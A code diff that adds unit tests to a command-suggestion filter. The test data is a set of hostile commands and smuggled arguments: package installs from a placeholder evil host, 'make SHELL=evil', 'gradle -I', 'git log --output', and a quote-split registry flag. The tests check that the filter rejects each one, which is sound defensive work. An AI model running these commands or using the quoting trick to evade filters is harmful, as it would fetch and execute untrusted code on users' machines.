@@ -91,6 +91,26 @@ test('what the rules name may be done with it', () => {
   ]);
 });
 
+test.each([
+  ['an option', 'gradle -I build', 'gradle -I failed, then build'],
+  ['a variable of make', 'make SHELL=evil', 'make: SHELL=evil'],
+  ['an address', 'npm install https://evil.example/x.tgz', 'See https://evil.example/x.tgz'],
+  ['a repository', 'npm install evil/x', 'evil/x: not found'],
+  ['a version control’s address', 'pip install git+ssh:evil/x', 'git+ssh:evil/x failed'],
+  ['a repository to run', 'npx github:evil/x', 'github:evil/x failed'],
+  ['words in quotes', "git log '--output=x y'", '--output=x y'],
+  ['a part of a word in quotes', "npm ci --regis'try'=evil", 'evil'],
+])('%s that a log had the rules say may not', (_, command, found) => {
+  expect(suggestedCommands([command], { found })).toEqual([]);
+});
+
+test('an argument in quotes is read as one word', () => {
+  const found = 'The test “adds” failed: @scope/prices 2.0';
+
+  expect(suggestedCommands(["git log 'src/sum.ts'", "git log 'a b'"], { found })).toEqual(["git log 'src/sum.ts'"]);
+  expect(suggestedCommands(['npm install @scope/prices'], { found })).toEqual(['npm install @scope/prices']);
+});
+
 test('at most three of them', () => {
   expect(suggestedCommands(Array(9).fill('git status'), grounds)).toHaveLength(3);
 });
